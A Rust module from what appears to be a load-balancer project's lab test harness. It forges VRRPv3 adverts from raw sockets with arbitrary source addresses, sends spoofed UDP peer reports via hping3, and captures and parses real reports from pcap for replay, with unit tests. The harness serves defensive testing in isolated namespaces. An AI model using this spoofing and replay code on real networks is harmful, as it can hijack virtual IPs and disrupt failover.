//! Forged control traffic from the client host (172.20.0.50), as an attacker on the load
//! balancers' segment would send it:
//!
//! - VRRPv3 adverts ([`Advert`], [`send_adverts`]): built here byte by byte (the layout and the
//!   checksum mirror `lb-user/src/vip/packet.rs`, which xtask does not depend on) and sent from a
//!   raw socket in `pgha-client` with `IP_HDRINCL`, bound to eth0, with any source address, TTL
//!   255, to 224.0.0.18;
//! - peer reports ([`send_udp`]): `hping3 -2 -a SOURCE -s PORT -k -p 3002` with a payload from a
//!   file, the issue's own attack;
//! - a genuine report captured on the wire ([`capture_udp`]): `tcpdump -w` on a switch port in
//!   `pgha-sw`, read back from the pcap file ([`udp_payloads`]), to be replayed with
//!   [`send_udp`].

use std::{
    fs::{self, File},
    net::Ipv4Addr,
    os::fd::AsRawFd as _,
    path::Path,
    thread,
    time::Duration,
};

use anyhow::{Context as _, Result, bail};

use crate::{
    lab::{
        net::ns_cmd,
        topology::{Host, SWITCH_NS},
    },
    sh,
};

/// IP protocol number of VRRP.
pub const IPPROTO_VRRP: u8 = 112;
/// The group VRRP adverts go to.
pub const VRRP_GROUP: Ipv4Addr = Ipv4Addr::new(224, 0, 0, 18);
/// The only TTL a VRRP advert may arrive with (RFC 9568 §7.1).
const VRRP_TTL: u8 = 255;
/// The interface every lab host has.
const IFACE: &str = "eth0";

/// A VRRPv3 advertisement for IPv4 (RFC 9568 §5.1), any field as the forger likes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Advert {
    /// The IPv4 source: whoever the forger pretends to be.
    pub src: Ipv4Addr,
    pub vrid: u8,
    pub priority: u8,
    /// Max Adver Int in centiseconds (12 bits; 0 is outside RFC 9568).
    pub max_advert_int_cs: u16,
    pub addresses: Vec<Ipv4Addr>,
}

impl Advert {
    /// The VRRP message (no IP header), with the checksum over the IPv4 pseudo-header from
    /// `self.src` to 224.0.0.18 (RFC 9568 §5.2.8).
    pub fn message(&self) -> Vec<u8> {
        let mut m = vec![0x31, self.vrid, self.priority, self.addresses.len() as u8];
        m.extend_from_slice(&(self.max_advert_int_cs & 0x0fff).to_be_bytes());
        m.extend_from_slice(&[0, 0]);
        for a in &self.addresses {
            m.extend_from_slice(&a.octets());
        }
        let mut pseudo = Vec::with_capacity(12 + m.len());
        pseudo.extend_from_slice(&self.src.octets());
        pseudo.extend_from_slice(&VRRP_GROUP.octets());
        pseudo.extend_from_slice(&[0, IPPROTO_VRRP]);
        pseudo.extend_from_slice(&(m.len() as u16).to_be_bytes());
        pseudo.extend_from_slice(&m);
        let sum = internet_checksum(&pseudo);
        m[6..8].copy_from_slice(&sum.to_be_bytes());
        m
    }

    /// The whole IPv4 datagram: header (TOS 0xc0 as keepalived sends, TTL 255, protocol 112,
    /// header checksum) and message.
    pub fn datagram(&self, id: u16) -> Vec<u8> {
        let msg = self.message();
        let mut d = vec![0x45, 0xc0];
        d.extend_from_slice(&((20 + msg.len()) as u16).to_be_bytes());
        d.extend_from_slice(&id.to_be_bytes());
        d.extend_from_slice(&[0, 0, VRRP_TTL, IPPROTO_VRRP, 0, 0]);
        d.extend_from_slice(&self.src.octets());
        d.extend_from_slice(&VRRP_GROUP.octets());
        let sum = internet_checksum(&d);
        d[10..12].copy_from_slice(&sum.to_be_bytes());
        d.extend_from_slice(&msg);
        d
    }
}

/// The Internet checksum (RFC 1071) of `bytes`, whose checksum field is zero.
fn internet_checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes.chunks(2).map(|w| u32::from(u16::from_be_bytes([w[0], *w.get(1).unwrap_or(&0)]))).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// Sends `count` copies of `advert`, one every `every`, from a raw socket in `from`'s namespace
/// (`IP_HDRINCL`, `SO_BINDTODEVICE` eth0) to 224.0.0.18; returns how many the kernel took.
pub fn send_adverts(from: &Host, advert: &Advert, count: u32, every: Duration) -> Result<u32> {
    let ns_path = format!("/run/netns/{}", from.ns());
    let advert = advert.clone();
    let sender = thread::spawn(move || -> Result<u32> {
        let ns = File::open(&ns_path).with_context(|| format!("opening {ns_path} (is the lab up?)"))?;
        // SAFETY: setns with a valid namespace fd changes only this thread's network namespace.
        if unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) } != 0 {
            bail!("entering {ns_path}: {}", std::io::Error::last_os_error());
        }
        let sock = RawSocket::open()?;
        let mut sent = 0;
        for i in 0..count {
            if i > 0 {
                thread::sleep(every);
            }
            sock.send(&advert.datagram(i as u16 + 1), VRRP_GROUP)?;
            sent += 1;
        }
        Ok(sent)
    });
    sender.join().map_err(|_| anyhow::anyhow!("the advert sender thread panicked"))?
}

/// A raw IPv4 socket for protocol 112 whose caller writes the IP header, bound to eth0.
struct RawSocket {
    fd: i32,
}

impl RawSocket {
    fn open() -> Result<RawSocket> {
        // SAFETY: socket(2) with constant arguments; the fd is owned by the returned value.
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, i32::from(IPPROTO_VRRP)) };
        if fd < 0 {
            bail!("a raw socket for protocol 112: {}", std::io::Error::last_os_error());
        }
        let sock = RawSocket { fd };
        let one: libc::c_int = 1;
        // SAFETY: the option value is a live c_int of the size passed.
        if unsafe { libc::setsockopt(fd, libc::IPPROTO_IP, libc::IP_HDRINCL, (&one as *const libc::c_int).cast(), size_of::<libc::c_int>() as u32) } != 0 {
            bail!("IP_HDRINCL: {}", std::io::Error::last_os_error());
        }
        // SAFETY: the option value is the interface name's bytes, of the length passed.
        if unsafe { libc::setsockopt(fd, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, IFACE.as_ptr().cast(), IFACE.len() as u32) } != 0 {
            bail!("SO_BINDTODEVICE {IFACE}: {}", std::io::Error::last_os_error());
        }
        Ok(sock)
    }

    fn send(&self, datagram: &[u8], dst: Ipv4Addr) -> Result<()> {
        let addr = libc::sockaddr_in {
            sin_family: libc::AF_INET as libc::sa_family_t,
            sin_port: 0,
            sin_addr: libc::in_addr { s_addr: u32::from_ne_bytes(dst.octets()) },
            sin_zero: [0; 8],
        };
        // SAFETY: the buffer and the address are live for the call, with the lengths passed.
        let n = unsafe {
            libc::sendto(self.fd, datagram.as_ptr().cast(), datagram.len(), 0, (&addr as *const libc::sockaddr_in).cast(), size_of::<libc::sockaddr_in>() as u32)
        };
        if n != datagram.len() as isize {
            bail!("sending a forged advert to {dst}: {}", std::io::Error::last_os_error());
        }
        Ok(())
    }
}

impl Drop for RawSocket {
    fn drop(&mut self) {
        // SAFETY: the fd is this value's own, closed once.
        unsafe { libc::close(self.fd) };
    }
}

/// One UDP datagram to send with [`send_udp`].
pub struct Udp<'a> {
    /// The source address and port it pretends to come from.
    pub src: &'a str,
    pub sport: u16,
    pub dst: &'a str,
    pub dport: u16,
    pub payload: &'a [u8],
}

/// Sends `count` copies of a UDP datagram, 100 ms apart, from `from`'s namespace with `hping3 -2
/// -a SRC -s SPORT -k -p DPORT -d LEN -E FILE` (the payload in a file in `dir`); returns the
/// count hping3 says it transmitted.
pub fn send_udp(from: &Host, dir: &Path, name: &str, u: &Udp<'_>, count: u32) -> Result<u64> {
    let file = dir.join(format!("{name}.payload"));
    fs::write(&file, u.payload).with_context(|| format!("writing {}", file.display()))?;
    let (sport, dport, len, count) = (u.sport.to_string(), u.dport.to_string(), u.payload.len().to_string(), count.to_string());
    let mut c = ns_cmd(&from.ns(), "hping3", [
        "-2", "-a", u.src, "-s", &sport, "-k", "-p", &dport, "-c", &count, "-i", "u100000", "-d", &len, "-E", file.to_str().context("a UTF-8 path")?, u.dst,
    ]);
    let out = sh::capture(&mut c).context("starting hping3 (`cargo xtask setup` installs it)")?;
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    super::flood_report::hping_transmitted(&text).with_context(|| format!("hping3 printed no \"packets transmitted\" line (exit {}): {}", out.status, text.trim()))
}

/// A UDP datagram seen on the wire.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Captured {
    pub src: Ipv4Addr,
    pub sport: u16,
    pub dst: Ipv4Addr,
    pub dport: u16,
    pub payload: Vec<u8>,
}

/// Captures the next UDP datagram from `src` to `dst`:`dport` on `src`'s switch port (in
/// `pgha-sw`, where no XDP program sits), within `limit`.
pub fn capture_udp(src: &Host, dst: &Host, dport: u16, dir: &Path, limit: Duration) -> Result<Captured> {
    let file = dir.join(format!("capture-{}-{}-{dport}.pcap", src.name, dst.name));
    let _ = fs::remove_file(&file);
    let filter = format!("udp and src host {} and dst host {} and dst port {dport}", src.addr, dst.addr);
    let secs = limit.as_secs().max(1).to_string();
    let mut c = ns_cmd(SWITCH_NS, "timeout", [secs.as_str(), "tcpdump", "-i", &src.switch_port(), "-n", "-U", "-c", "1", "-w", file.to_str().context("a UTF-8 path")?, &filter]);
    let out = sh::capture(&mut c).context("starting tcpdump (`cargo xtask setup` installs it)")?;
    let bytes = fs::read(&file).with_context(|| format!("tcpdump wrote no capture ({}): {}", out.status, String::from_utf8_lossy(&out.stderr).trim()))?;
    let found = udp_payloads(&bytes).context("reading tcpdump's capture")?;
    found.into_iter().next().with_context(|| format!("no datagram {} -> {}:{dport} within {limit:?} ({filter})", src.addr, dst.addr))
}

/// The UDP datagrams in a pcap file of Ethernet frames (microsecond or nanosecond, either byte
/// order); frames that are not IPv4/UDP are skipped.
pub fn udp_payloads(pcap: &[u8]) -> Result<Vec<Captured>> {
    let magic = pcap.get(..4).context("no pcap header")?;
    let le = match magic {
        [0xd4, 0xc3, 0xb2, 0xa1] | [0x4d, 0x3c, 0xb2, 0xa1] => true,
        [0xa1, 0xb2, 0xc3, 0xd4] | [0xa1, 0xb2, 0x3c, 0x4d] => false,
        other => bail!("not a pcap file (magic {other:02x?})"),
    };
    let u32_at = |b: &[u8], i: usize| -> Result<u32> {
        let w: [u8; 4] = b.get(i..i + 4).context("a truncated pcap")?.try_into().expect("4 bytes");
        Ok(if le { u32::from_le_bytes(w) } else { u32::from_be_bytes(w) })
    };
    if u32_at(pcap, 20)? != 1 {
        bail!("the capture's link type is {}, not Ethernet", u32_at(pcap, 20)?);
    }
    let mut out = Vec::new();
    let mut at = 24;
    while at < pcap.len() {
        let len = u32_at(pcap, at + 8)? as usize;
        let frame = pcap.get(at + 16..at + 16 + len).context("a truncated pcap record")?;
        at += 16 + len;
        if let Some(c) = udp_of_frame(frame) {
            out.push(c);
        }
    }
    Ok(out)
}

fn udp_of_frame(f: &[u8]) -> Option<Captured> {
    if f.get(12..14)? != [0x08, 0x00] {
        return None;
    }
    let ip = f.get(14..)?;
    let ihl = usize::from(ip.first()? & 0x0f) * 4;
    if ip[0] >> 4 != 4 || *ip.get(9)? != 17 {
        return None;
    }
    let total = usize::from(u16::from_be_bytes([*ip.get(2)?, *ip.get(3)?]));
    let udp = ip.get(ihl..total)?;
    let ulen = usize::from(u16::from_be_bytes([*udp.get(4)?, *udp.get(5)?]));
    Some(Captured {
        src: Ipv4Addr::new(ip[12], ip[13], ip[14], ip[15]),
        dst: Ipv4Addr::new(ip[16], ip[17], ip[18], ip[19]),
        sport: u16::from_be_bytes([udp[0], udp[1]]),
        dport: u16::from_be_bytes([udp[2], udp[3]]),
        payload: udp.get(8..ulen)?.to_vec(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const LB1: Ipv4Addr = Ipv4Addr::new(172, 20, 0, 21);
    const VIP: Ipv4Addr = Ipv4Addr::new(172, 20, 0, 100);

    /// keepalived 2.2.7's advert from lb1 (vrid 51, priority 150, 1 s, the VIP), captured with
    /// `tcpdump -x` (the same bytes as lb-user/src/vip/packet.rs's `KEEPALIVED_ADVERT`).
    const KEEPALIVED_ADVERT: [u8; 32] = [
        0x45, 0xc0, 0x00, 0x20, 0x00, 0x01, 0x00, 0x00, 0xff, 0x70, 0x2e, 0x71, 0xac, 0x14, 0x00, 0x15, 0xe0, 0x00, 0x00, 0x12, 0x31, 0x33, 0x96, 0x01,
        0x00, 0x64, 0xff, 0x35, 0xac, 0x14, 0x00, 0x64,
    ];

    #[test]
    fn adverts_are_byte_identical_to_keepalived() {
        let a = Advert { src: LB1, vrid: 51, priority: 150, max_advert_int_cs: 100, addresses: vec![VIP] };
        assert_eq!(a.datagram(1), KEEPALIVED_ADVERT.to_vec(), "IP header (with its checksum) and message");
        assert_eq!(a.message(), KEEPALIVED_ADVERT[20..].to_vec());
        // Another source changes the VRRP checksum (it covers the pseudo-header).
        let b = Advert { src: Ipv4Addr::new(172, 20, 0, 22), ..a.clone() };
        assert_ne!(b.message()[6..8], a.message()[6..8]);
        // A zero interval is encoded as such, checksum and all.
        let zero = Advert { max_advert_int_cs: 0, ..a };
        let m = zero.message();
        assert_eq!(m[4..6], [0, 0]);
        let mut pseudo = LB1.octets().to_vec();
        pseudo.extend_from_slice(&VRRP_GROUP.octets());
        pseudo.extend_from_slice(&[0, 112, 0, 12]);
        pseudo.extend_from_slice(&m);
        assert_eq!(internet_checksum(&pseudo), 0, "a valid checksum sums to zero");
    }

    fn pcap_of(frames: &[Vec<u8>]) -> Vec<u8> {
        let mut p = vec![0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 0, 0, 0];
        for f in frames {
            p.extend_from_slice(&[0; 8]);
            p.extend_from_slice(&(f.len() as u32).to_le_bytes());
            p.extend_from_slice(&(f.len() as u32).to_le_bytes());
            p.extend_from_slice(f);
        }
        p
    }

    fn udp_frame(payload: &[u8]) -> Vec<u8> {
        let mut f = vec![0; 12];
        f.extend_from_slice(&[0x08, 0x00]);
        let total = (20 + 8 + payload.len()) as u16;
        f.extend_from_slice(&[0x45, 0]);
        f.extend_from_slice(&total.to_be_bytes());
        f.extend_from_slice(&[0, 0, 0, 0, 64, 17, 0, 0, 172, 20, 0, 22, 172, 20, 0, 21]);
        f.extend_from_slice(&3002u16.to_be_bytes());
        f.extend_from_slice(&3002u16.to_be_bytes());
        f.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
        f.extend_from_slice(&[0, 0]);
        f.extend_from_slice(payload);
        f.extend_from_slice(&[0; 4]); // Ethernet padding past the IP total length
        f
    }

    #[test]
    fn udp_datagrams_are_read_from_a_pcap() {
        let mut arp = vec![0; 12];
        arp.extend_from_slice(&[0x08, 0x06, 0, 1]);
        let got = udp_payloads(&pcap_of(&[arp, udp_frame(b"pglb-report 2 x")])).unwrap();
        assert_eq!(got, [Captured {
            src: Ipv4Addr::new(172, 20, 0, 22),
            sport: 3002,
            dst: Ipv4Addr::new(172, 20, 0, 21),
            dport: 3002,
            payload: b"pglb-report 2 x".to_vec()
        }]);
        assert!(udp_payloads(b"not a pcap at all, no").is_err());
        let mut cut = pcap_of(&[udp_frame(b"abc")]);
        cut.truncate(cut.len() - 3);
        assert!(udp_payloads(&cut).is_err(), "a truncated record is an error");
    }
}
